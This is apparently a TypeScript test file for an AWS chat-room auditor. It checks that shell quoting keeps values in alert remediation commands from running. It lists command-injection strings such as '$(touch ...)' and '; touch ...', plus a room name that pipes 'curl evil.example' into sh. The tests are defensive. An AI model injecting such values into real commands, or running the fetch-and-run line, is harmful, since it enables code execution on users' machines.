/**
 * Commands shown in alerts are pasted into a shell: each value filled in must come out of the shell
 * as exactly one argument, itself, and run nothing. Checked with a real `sh`, which prints the words
 * it parsed (NUL-separated) instead of running the command.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../lambda/core/types.js';
import { DEFAULT_POLICIES_DIR, loadPolicyDir } from '../../lambda/policy/load-dir.js';
import { renderEmail } from '../../lambda/render/email.js';
import { fillRemediation } from '../../lambda/render/remediation.js';
import { applyCommand } from '../../lambda/render/remediation-plan.js';
import { shellWord } from '../../lambda/render/shell-word.js';
import { renderSlack } from '../../lambda/render/slack.js';
import { makeAlert, makeFinding } from './fixtures.js';

const dir = mkdtempSync(join(tmpdir(), 'shell-word-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const pwned = join(dir, 'pwned');

/** The words `sh` parses from `commandLine` (its first word included), running nothing of it. */
function shellWords(commandLine: string): string[] {
  const out = execFileSync('sh', ['-c', `printf '%s\\0' ${commandLine}`], { cwd: dir, encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

const HOSTILE = [
  `$(touch ${pwned})`,
  `\`touch ${pwned}\``,
  `x; touch ${pwned}`,
  `x && touch ${pwned} #`,
  `it's`,
  `'; touch ${pwned}; '`,
  `"$(touch ${pwned})"`,
  'line one\nline two',
  'a b\tc',
  '',
  '*',
  '~root',
  '=ls',
  '$HOME',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, as a hostile value
  '${PATH}',
  '\\',
  'x > out.txt',
  '<in',
  'a|b',
  '!!',
  '{a,b}',
  'ünïcode-ʼquote',
];

describe('shellWord', () => {
  it.each(HOSTILE)('%j is one word the shell reads back as itself', (value) => {
    expect(shellWords(shellWord(value))).toEqual([value]);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('leaves what AWS produces as it is: ARNs, regions, account ids, room names, kebab-case ids', () => {
    for (const value of [
      'arn:aws:ivschat:us-east-1:111111111111:room/AbCd1234',
      'us-gov-west-1',
      '111111111111',
      'team_chat-01',
      'message-length-max',
      'ivschat-auditor:remediate=true',
    ]) {
      expect(shellWord(value)).toBe(value);
    }
  });
});

/** A finding whose every placeholder field is `value`. */
const finding = (template: string, value: string) =>
  ({
    remediationTemplate: template,
    roomArn: value,
    roomId: value,
    roomName: value,
    region: value,
    accountId: value,
  }) as Pick<Finding, 'remediationTemplate' | 'roomArn' | 'roomId' | 'roomName' | 'region' | 'accountId'>;

describe("a policy's remediation, filled", () => {
  // The shipped policies whose remediation is a command from its first word to its last.
  const commands = loadPolicyDir(DEFAULT_POLICIES_DIR)
    .policies.map((p) => p.policy.remediation)
    .filter((r) => r.startsWith('aws ') && !/[<>()'"]/.test(r));

  it('has commands to check', () => {
    expect(commands.length).toBeGreaterThanOrEqual(2);
  });

  it.each(HOSTILE)('gives the shell %j as each placeholder, one argument each', (value) => {
    for (const template of commands) {
      const expected = template.split(' ').map((w) => (/^\{\w+\}$/.test(w) ? value : w));
      expect(shellWords(fillRemediation(finding(template, value)))).toEqual(expected);
    }
    expect(existsSync(pwned)).toBe(false);
  });

  it('quotes a value inside a larger word too, and only the value', () => {
    const filled = fillRemediation(finding('--tags owner={name}', 'a b'));
    expect(filled).toBe("--tags owner='a b'");
    expect(shellWords(filled)).toEqual(['--tags', 'owner=a b']);
  });

  it('reads in prose as before for values AWS produces', () => {
    const text = 'Deploy it in account {accountId}, region {region}: aws ivschat get-room --identifier {arn}';
    const filled = fillRemediation({
      ...finding(text, ''),
      accountId: '111111111111',
      region: 'eu-west-1',
      roomArn: 'arn:aws:ivschat:eu-west-1:111111111111:room/AbCd1234',
    });
    expect(filled).toBe(
      'Deploy it in account 111111111111, region eu-west-1: aws ivschat get-room --identifier arn:aws:ivschat:eu-west-1:111111111111:room/AbCd1234',
    );
  });
});

describe('the alert', () => {
  it('shows a hostile room name single-quoted in the email and in Slack', () => {
    const name = `chat; curl evil.example | sh`;
    const alert = makeAlert({
      newFindings: [
        makeFinding({ roomName: name, remediationTemplate: 'aws ivschat list-rooms --name {name}' }),
      ],
    });
    const quoted = `aws ivschat list-rooms --name '${name}'`;
    expect(JSON.stringify(renderEmail(alert))).toContain(quoted);
    expect(JSON.stringify(renderSlack(alert))).toContain(quoted);
  });
});

describe('the command an alert shows to apply planned fixes', () => {
  it.each(HOSTILE)('passes %j as the region, the policy and the tag, one argument each', (value) => {
    const command = applyCommand({ region: value, policyId: value }, value);
    expect(shellWords(command)).toEqual([
      'ivschat-audit',
      'remediate',
      '--region',
      value,
      '--policy',
      value,
      // No tag at all is no --tag.
      ...(value ? ['--tag', value] : []),
      '--apply',
    ]);
    expect(existsSync(pwned)).toBe(false);
  });
});
